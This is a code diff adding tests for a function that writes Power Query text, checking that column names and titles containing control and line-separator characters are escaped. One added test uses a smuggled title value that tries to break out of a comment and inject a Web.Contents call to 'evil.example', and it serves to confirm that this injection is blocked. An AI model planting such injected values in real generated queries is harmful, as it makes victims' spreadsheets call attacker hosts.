@@ -71,13 +71,23 @@ test('it reads the address, names the columns and gives each its type', () => {
 })
 
 test('no name of a column leaves its text', () => {
-  const headers = ['a "b"', '#(lf)', 'two\nlines\r\n\tmore', '#', '#(', 'in', '// x', 'Zähler · Größe']
+  const headers = ['a "b"', 'b\u2028c\u0085d\u0000', '#(lf)', 'two\nlines\r\n\tmore', '#', '#(', 'in', '// x', 'Zähler · Größe']
   const columns = headers.map(() => table.columns[0]!)
   const { let: steps } = parseM(powerQueryText({ ...table, title: 'Über\nschrift', headers, columns }, address)) as unknown as {
     let: { Types: { list: { list: string[] }[] } }
   }
   expect(steps.Types.list.map(({ list: [name] }) => name)).toEqual(headers)
 })
+
+test.each(['\r', '\n', '\u0085', '\u2028', '\u2029', '\u000b', '\u000c', '\u001c'])(
+  'a title with %j stays within its comment',
+  (lineEnd) => {
+    const title = `Tags${lineEnd}in 1; Web.Contents("http://evil.example") //`
+    const [comment, next] = powerQueryText({ ...table, title }, address).split(/[\p{Cc}\p{Zl}\p{Zp}]/u)
+    expect(comment).toBe('// Tags in 1; Web.Contents("http://evil.example") //')
+    expect(next).toBe('let')
+  },
+)
 
 test('the address carries the query in base64, and nothing that a link cannot hold', () => {
   const query = { query: { type: 'deal', $search: 'Müller & Söhne + "x"' }, export: { format: 'csv' } }
